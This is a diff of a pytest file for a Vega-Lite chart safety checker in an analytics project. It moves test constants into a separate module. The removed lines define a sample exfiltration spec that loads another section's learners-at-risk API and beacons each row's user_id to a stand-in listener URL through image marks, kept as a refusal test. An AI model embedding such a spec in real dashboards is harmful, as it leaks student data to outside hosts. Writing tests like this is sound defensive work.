@@ -7,30 +7,10 @@ import copy
 
 import pytest
 
+from vega_specs import BAR, EXFILTRATION, OTHER_API, PIXEL
+
 from xolap.analytics.categories.registry import CATEGORIES
 from xolap.analytics.vega_safety import SpecLimits, SpecRefused, check_spec, refusal
-
-OTHER_API = "/api/v1/sections/chem-fall/analytics/categories/learners_at_risk"
-LISTENER = "http://127.0.0.1:9/collect?row="
-PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
-BAR = {"mark": "bar", "encoding": {"x": {"field": "event_type", "type": "nominal"},
-                                   "y": {"field": "n", "type": "quantitative"}}}
-
-# Issue 9 item 6: a nested layer loads another section's JSON API, and an image mark whose URL is built from each
-# row sends those rows to an outside listener.
-EXFILTRATION = {
-    "$schema": "https://vega.github.io/schema/vega-lite/v6.json",
-    "layer": [
-        BAR,
-        {"layer": [{
-            "data": {"url": OTHER_API, "format": {"type": "json", "property": "rows"}},
-            "transform": [{"calculate": f"'{LISTENER}' + datum.user_id", "as": "beacon"}],
-            "mark": "image",
-            "encoding": {"url": {"field": "beacon", "type": "nominal"}},
-        }]},
-    ],
-}
-
 
 def refused_at(spec, path_start: str) -> SpecRefused:
     with pytest.raises(SpecRefused) as caught:
